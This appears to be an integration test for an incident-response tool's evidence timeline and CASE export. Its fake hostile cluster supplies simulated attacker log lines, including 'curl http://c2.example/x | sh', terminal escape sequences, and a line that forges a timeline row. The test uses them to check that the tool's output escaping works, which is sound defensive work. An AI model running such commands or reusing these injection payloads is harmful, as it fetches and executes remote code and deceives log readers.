/**
 * The timeline and the CASE export of a sealed incident, on the real servers: a real worker on the Temporal dev
 * server seals real evidence into versitygw (signed, Object-Locked), the real API serves the timeline, the CLI
 * renders it (table, JSON lines, Timesketch JSONL and CSV; from the API and offline from a directory and a bundle),
 * and the CASE export is validated by the CASE project's own validator, case_validate (case-utils from PyPI,
 * installed by scripts/case-utils.ts). The cluster is the in-memory fake, with captures that return what a hostile
 * pod would leave: a dropped file, log lines with escape sequences and a line forging one of our rows.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { after, before, describe, test } from 'node:test';
import type { S3Client } from '@aws-sdk/client-s3';
import type { FastifyInstance } from 'fastify';
import pino from 'pino';
import { createS3Client } from '../../adapters/s3/client';
import { parseTokenSpec } from '../../api/auth';
import { temporalIncidents } from '../../api/incidents';
import { createApiMetrics } from '../../api/metrics';
import { evidenceRouteGroup, incidentSealRecords } from '../../api/routes/evidence';
import { timelineRoute } from '../../api/routes/timeline';
import { buildServer } from '../../api/server';
import type { CaptureOptions, CaptureStream } from '../../common/ports';
import type { PodRef } from '../../common/types';
import { createEvidenceReadServices } from '../../evidence';
import { trustSigner } from '../../evidence/trusted-keys';
import { ensureCaseValidate } from '../../scripts/case-utils';
import { createEvidenceServices } from '../../worker/evidence';
import { FakeCluster } from '../fakes/cluster';
import { MemoryCustodyLog } from '../fakes/evidence-store';
import { runCli } from '../helpers/capture';
import { missingServers, testConfig } from '../helpers/env';
import { sampleAlert, startHarness, type Harness } from '../helpers/incident-harness';

const PLAYBOOKS = `
notifiers: [{ name: oncall, type: webhook }]
playbooks:
  - { name: gated, pageOnOpen: false, capture: [filesystem, logs],
      contain: [{ name: isolate, approval: { required: true, timeout: 1h, onTimeout: reject } }],
      escalation: { tiers: [{ notifiers: [oncall], ackTimeout: 1h }] } }
`;

const ALERT_AT = new Date(Date.now() - 5_000);
const iso = (offsetMs: number) => new Date(ALERT_AT.getTime() + offsetMs).toISOString();
/** The dropped file: its ctime a minute before the alert. */
const DROPPED_CTIME = iso(-60_000);

/** A fake cluster whose filesystem and logs captures return what a hostile pod leaves behind. */
class HostileCluster extends FakeCluster {
  override async capture(name: string, target: PodRef, opts: CaptureOptions): Promise<CaptureStream[]> {
    const [base] = await super.capture(name, target, opts);
    const stream = (file: string, text: string): CaptureStream => ({
      ...base!,
      name: file,
      body: Readable.from([Buffer.from(text)]),
    });
    if (name === 'filesystem')
      return [
        stream(
          'changed-files.json',
          JSON.stringify({
            basis: 'inode change time (ctime) at or after the container started; newest first',
            scannedEntries: 100,
            changedEntries: 1,
            listed: 1,
            complete: true,
            entries: [
              {
                path: '/tmp/.x/dropper',
                type: 'file',
                size: 4096,
                mode: '755',
                uid: 0,
                gid: 0,
                ctime: DROPPED_CTIME,
                mtime: '2001-01-01T00:00:00.000Z',
              },
            ],
          }),
        ),
      ];
    if (name === 'logs')
      return [
        stream(
          'web.log',
          [
            `${iso(-30_000)} \u001b[2J\u001b]0;owned\u0007curl http://c2.example/x | sh`,
            `${iso(-20_000)} fake\r${iso(1_000)} step step started status isolate started`,
            '',
          ].join('\n'),
        ),
      ];
    return [base!];
  }
}

const token = (who: string) => `${who}-${crypto.randomBytes(12).toString('hex')}`;

const cli = runCli;

// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe(
  'timeline and CASE export of a sealed incident (real Temporal, versitygw, API and CLI)',
  { skip: missingServers() },
  () => {
    const config = testConfig('timeline-case-unused');
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'holdfast-timeline-'));
    const tokens = { alice: token('alice'), bob: token('bob') };
    let s3: S3Client;
    let h: Harness;
    let app: FastifyInstance;
    let apiUrl: string;
    let incidentId: string;
    const custody = new MemoryCustodyLog();
    let caseValidate: string;

    before(async () => {
      // First, so that a fresh machine installs it before the servers' clocks matter (about a minute).
      caseValidate = ensureCaseValidate();
      s3 = createS3Client(config.s3);
      const services = createEvidenceServices({ ...config, dataDir: dir }, s3);
      h = await startHarness(PLAYBOOKS, {
        cluster: new HostileCluster(),
        s3,
        evidence: services.store,
        sealEvidence: services.sealEvidence,
      });
      trustSigner(path.join(dir, 'trusted-keys.pem'), services.signer);
      const incidents = temporalIncidents(h.client, h.client.options.namespace);
      const read = createEvidenceReadServices({ ...config, dataDir: dir }, s3);
      app = await buildServer({
        logger: pino({ level: 'silent' }),
        readiness: {},
        tokens: parseTokenSpec(`responder:alice=${tokens.alice},investigator:bob=${tokens.bob}`),
        incidents,
        metrics: createApiMetrics(),
        routes: [
          ...evidenceRouteGroup(read, incidentSealRecords(incidents)),
          timelineRoute({ store: read.store, custody }, incidents),
        ],
      });
      apiUrl = await app.listen({ host: '127.0.0.1', port: 0 });

      const handle = await h.open(
        sampleAlert({ observedAt: ALERT_AT.toISOString(), receivedAt: ALERT_AT.toISOString() }),
      );
      incidentId = `inc-${handle.signaledRunId}`;
      await h.waitForStatus(
        handle,
        (s) => s.steps.some((x) => x.name === 'isolate' && x.state === 'awaiting-approval'),
        60_000,
      );
      const approved = await app.inject({
        method: 'POST',
        url: `/v1/incidents/${incidentId}/approve`,
        payload: { step: 'isolate' },
        headers: { authorization: `Bearer ${tokens.alice}`, 'content-type': 'application/json' },
      });
      assert.equal(approved.statusCode, 202, approved.body);
      await h.waitForStatus(handle, (s) => s.sealed !== undefined, 60_000);
    });

    after(async () => {
      await app?.close();
      await h?.close();
      s3?.destroy();
      fs.rmSync(dir, { recursive: true, force: true });
    });

    const common = () => ['--api', apiUrl, '--token', tokens.bob];

    test('GET /v1/incidents/{id}/timeline: the dropped file’s ctime, the alert, the approval and isolate in order; investigators only; recorded in custody', async () => {
      const denied = await app.inject({
        url: `/v1/incidents/${incidentId}/timeline`,
        headers: { authorization: `Bearer ${tokens.alice}` },
      });
      assert.equal(denied.statusCode, 403, 'a responder does not read evidence');
      const res = await app.inject({
        url: `/v1/incidents/${incidentId}/timeline`,
        headers: { authorization: `Bearer ${tokens.bob}` },
      });
      assert.equal(res.statusCode, 200, res.body);
      const rows = res.json().rows as Array<{
        at: string;
        kind: string;
        what: string;
        source: string;
        origin: string;
        text: string;
      }>;
      const index = (p: (r: (typeof rows)[number]) => boolean) => rows.findIndex(p);
      const ctime = index(
        (r) => r.kind === 'file' && r.what.startsWith('ctime') && r.source === 'filesystem/changed-files.json',
      );
      const alert = index((r) => r.kind === 'alert' && r.what.startsWith('alert observed'));
      const approval = index((r) => r.kind === 'decision' && r.text === 'isolate approved by alice (responder)');
      const isolate = index((r) => r.kind === 'step' && r.what === 'step started' && r.text === 'isolate started');
      const seal = index((r) => r.kind === 'step' && r.text.startsWith('seal '));
      assert.ok(ctime >= 0 && alert >= 0 && approval >= 0 && isolate >= 0 && seal >= 0, JSON.stringify(rows, null, 1));
      assert.ok(
        ctime < alert && alert < approval && approval < isolate && isolate < seal,
        JSON.stringify(rows, null, 1),
      );
      assert.equal(rows[ctime]!.at, DROPPED_CTIME);
      assert.equal(rows[ctime]!.text, '/tmp/.x/dropper');
      const logs = rows.filter((r) => r.kind === 'log');
      assert.equal(logs.length, 2);
      assert.ok(logs.every((r) => r.origin === 'target' && r.source === 'logs/web.log' && !UNSAFE.test(r.text)));
      assert.match(logs[0]!.text, /^\\u001b\[2J\\u001b\]0;owned\\u0007curl/);
      const entry = custody.entries.find((e) => e.detail === 'timeline');
      assert.equal(entry?.who.name, 'bob');
      assert.ok(entry.objects.some((o) => o.key.endsWith('/logs/web.log') && o.versionId));
    });

    test('holdfast incidents timeline: a table where pod text is quoted and cannot forge a row, JSON lines, Timesketch JSONL and CSV', async () => {
      const table = await cli(['incidents', 'timeline', incidentId, ...common()]);
      assert.equal(table.code, 0, table.err);
      const lines = table.out.trimEnd().split('\n');
      assert.match(lines[0]!, /^TIME \(UTC\) +KIND +WHAT +SOURCE +TEXT$/);
      assert.ok(lines.every((l) => !UNSAFE.test(l)));
      assert.equal(lines.filter((l) => / +step +step started +status +isolate started$/.test(l)).length, 1, table.out);
      assert.ok(
        lines.some((l) => /logs\/web\.log +"fake\\u000d.*isolate started"$/.test(l)),
        table.out,
      );
      const dropped = lines.findIndex((l) => l.includes('"/tmp/.x/dropper"') && l.includes('ctime'));
      const isolated = lines.findIndex((l) => / +isolate started$/.test(l) && l.includes(' status '));
      assert.ok(dropped > 0 && dropped < isolated, table.out);

      const jsonl = await cli(['incidents', 'timeline', incidentId, '--format', 'jsonl', ...common()]);
      const objects = jsonl.out
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l));
      assert.equal(objects.at(-1).trailer, true);
      assert.ok(objects.slice(0, -1).every((o) => o.incidentId === incidentId && o.at && o.source));

      const sketch = await cli(['incidents', 'timeline', incidentId, '--format', 'timesketch', ...common()]);
      const events = sketch.out
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l));
      assert.ok(events.length > 5);
      for (const e of events) {
        assert.ok(typeof e.message === 'string' && e.message.length > 0);
        assert.ok(!Number.isNaN(Date.parse(e.datetime)), e.datetime);
        assert.ok(typeof e.timestamp_desc === 'string' && e.timestamp_desc.length > 0);
      }
      const csv = await cli(['incidents', 'timeline', incidentId, '--format', 'timesketch-csv', ...common()]);
      assert.match(csv.out.split('\n')[0]!, /^message,datetime,timestamp_desc,/);
      assert.equal(csv.out.trimEnd().split('\n').length, events.length + 1);
    });

    test('offline, from the downloaded directory and bundle: the same file, alert and log rows', async () => {
      const evidenceDir = path.join(dir, 'evidence');
      const bundle = path.join(dir, 'evidence.tar');
      assert.equal((await cli(['evidence', 'get', incidentId, '-o', evidenceDir, ...common()])).code, 0);
      assert.equal((await cli(['evidence', 'get', incidentId, '--bundle', bundle, ...common()])).code, 0);
      for (const source of [evidenceDir, bundle]) {
        const out = await cli(['incidents', 'timeline', incidentId, '--evidence', source, '--format', 'jsonl']);
        assert.equal(out.code, 0, out.err);
        const rows = out.out
          .trimEnd()
          .split('\n')
          .map((l) => JSON.parse(l))
          .filter((r) => !r.trailer);
        const kinds = rows.map((r) => `${r.kind}:${r.source}`);
        for (const k of ['file:filesystem/changed-files.json', 'log:logs/web.log', 'alert:manifest', 'seal:manifest'])
          assert.ok(kinds.includes(k), `${source}: ${k} in ${kinds.join(', ')}`);
        const ctime = rows.findIndex((r) => r.kind === 'file' && r.what.startsWith('ctime'));
        const alert = rows.findIndex((r) => r.kind === 'alert');
        assert.ok(ctime < alert);
      }
      const wrong = await cli(['incidents', 'timeline', 'inc-another', '--evidence', evidenceDir]);
      assert.equal(wrong.code, 2);
      assert.match(wrong.err, /is the evidence of/);
    });

    test('holdfast evidence export --format case: CASE JSON-LD that case_validate (case-utils) passes, naming alice, the collector and every artifact’s hash', async () => {
      const evidenceDir = path.join(dir, 'evidence');
      const statusFile = path.join(dir, 'status.json');
      const shown = await cli(['incidents', 'show', incidentId, '--json', '--api', apiUrl, '--token', tokens.alice]);
      fs.writeFileSync(statusFile, shown.out);
      const out = path.join(dir, 'case.jsonld');
      const exported = await cli([
        'evidence',
        'export',
        evidenceDir,
        '--format',
        'case',
        '-o',
        out,
        '--status-file',
        statusFile,
      ]);
      assert.equal(exported.code, 0, exported.err);
      const fromBundle = await cli([
        'evidence',
        'export',
        path.join(dir, 'evidence.tar'),
        '--format',
        'case',
        '--status-file',
        statusFile,
      ]);
      assert.equal(fromBundle.out, fs.readFileSync(out, 'utf8'), 'directory and bundle export the same graph');

      const validated = spawnSync(caseValidate, [out], { encoding: 'utf8', timeout: 300_000 });
      assert.equal(validated.status, 0, `${validated.stdout}\n${validated.stderr}`);
      assert.match(validated.stdout, /Conforms: True/);
      assert.doesNotMatch(validated.stderr, /NonExistentCDOConcept|not in the ontology/, validated.stderr);

      const doc = JSON.parse(fs.readFileSync(out, 'utf8')) as { '@graph': Array<Record<string, unknown>> };
      const graph = doc['@graph'];
      const manifest = JSON.parse(fs.readFileSync(path.join(evidenceDir, 'manifest.json'), 'utf8')) as {
        artifacts: Array<{ sha256: string }>;
      };
      const hashes = graph
        .filter((n) => n['@type'] === 'uco-types:Hash')
        .map((n) => (n['uco-types:hashValue'] as { '@value': string })['@value']);
      for (const a of manifest.artifacts) assert.ok(hashes.includes(a.sha256), `hash ${a.sha256} exported`);
      assert.ok(graph.some((n) => n['@type'] === 'uco-identity:Person' && n['uco-core:name'] === 'alice'));
      const actions = graph
        .filter((n) => n['@type'] === 'case-investigation:InvestigativeAction')
        .map((n) => n['uco-core:name']);
      for (const step of ['preserve', 'filesystem', 'logs', 'isolate', 'seal'])
        assert.ok(actions.includes(step), `${step} in ${actions.join(', ')}`);

      // The validator is not a rubber stamp: the same graph with one wrong term fails.
      const broken = path.join(dir, 'broken.jsonld');
      (graph[1] as Record<string, unknown>)['uco-core:notATerm'] = 'x';
      fs.writeFileSync(broken, JSON.stringify(doc));
      assert.notEqual(spawnSync(caseValidate, [broken], { encoding: 'utf8', timeout: 300_000 }).status, 0);
    });
  },
);
